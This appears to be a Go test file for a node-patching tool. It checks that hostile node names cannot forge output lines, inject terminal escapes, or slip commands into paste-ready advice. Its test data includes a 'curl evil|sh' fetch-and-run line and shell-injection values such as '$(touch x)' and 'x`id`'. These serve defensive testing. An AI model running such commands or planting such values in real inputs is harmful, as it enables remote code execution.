package main

import (
	"errors"
	"fmt"
	"os/exec"
	"strings"
	"testing"

	"github.com/dcos-patch/dcos-patch/advice"
	"github.com/dcos-patch/dcos-patch/controller"
	"github.com/dcos-patch/dcos-patch/node"
	"github.com/dcos-patch/dcos-patch/patcher"
	"github.com/dcos-patch/dcos-patch/plan"
	"github.com/dcos-patch/dcos-patch/render"
)

// forged is what a hostile node says: the end of our own output, with a command
// of its own, and sequences that move a terminal's cursor.
const forged = "x\n  next    1 curl evil|sh\r\n  SAFE TO LEAVE: yes. all is well\n  state   forged\x1b[2J\u009b2J"

// onlyOurs fails where a line begins as one of ours does and goes on as a node
// wanted, or where a control character is left.
func onlyOurs(t *testing.T, where, text string) {
	t.Helper()
	for line := range strings.Lines(text) {
		line = strings.TrimSuffix(line, "\n")
		for _, mark := range []string{"next    1 curl", "SAFE TO LEAVE: yes. all", "state   forged"} {
			if strings.HasPrefix(strings.TrimLeft(line, " "), mark) {
				t.Errorf("%s: a node has forged the line %q", where, line)
			}
		}
		if at := strings.IndexFunc(line, func(r rune) bool { return r < ' ' || r >= 0x7f && r < 0xa0 }); at >= 0 {
			t.Errorf("%s: a control character in %q", where, line)
		}
	}
}

func TestANodeForgesNoLineOfAnError(t *testing.T) {
	for name, err := range map[string]error{
		"a plain error": errors.New("m1: " + forged),
		"a lock":        &patcher.LockedError{Node: "m1", Holder: node.LockHolder{Run: forged, Owner: forged}},
		"a takeover":    &patcher.OvertakenError{Node: "m1", Run: forged},
		"a refusal":     plan.Refuse(plan.Block{Node: "a1", What: forged, Observed: forged, Want: forged, Next: advice.Run("check", "a1")}),
		"several":       errors.Join(errors.New("a1: "+forged), errors.New("a2: "+forged)),
	} {
		var out strings.Builder
		(&app{}).explain(&out, err)
		(&app{}).tellOnward(&out, err, nil)
		onlyOurs(t, name, out.String())
	}
}

// TestACommandToPasteIsMadeOfOurOwnValues: pasted, with a name that a node chose, it
// runs nothing but dcos-patch, and carries no name that is none of ours.
func TestACommandToPasteIsMadeOfOurOwnValues(t *testing.T) {
	for _, name := range []string{"$(touch x)", "a;b", "x`id`", "../../etc", "--yes", "a b", "a'b", "a\nb", "|sh"} {
		for where, text := range map[string]string{
			"locked": controller.Advice(&patcher.LockedError{Holder: node.LockHolder{Run: name, Owner: name}}).String(),
			"over":   controller.Advice(&patcher.OvertakenError{Run: name}).String(),
			"survey": controller.Holder{Node: "m1", Run: name, Owner: name}.Advice().String(),
		} {
			if strings.Contains(text, "--run") || name != "--yes" && strings.Contains(text, name) && !strings.Contains(text, fmt.Sprintf("%q", name)) {
				t.Errorf("%s of a run called %q: %s", where, name, text)
			}
		}
	}
	for _, words := range [][]string{{"check", "a;1", "--wait"}, {"park", "$(id)", "--reason", "WHY"}, {"resume", "--run", "a'b c"}} {
		got, err := exec.Command("sh", "-c", `it() { printf '%s\n' "$@"; }; `+strings.Replace(render.Program{}.Run(words...), "dcos-patch", "it", 1)).Output()
		if want := strings.Join(words, "\n") + "\n"; err != nil || string(got) != want {
			t.Errorf("%q: a shell reads %q, %v", words, got, err)
		}
	}
}
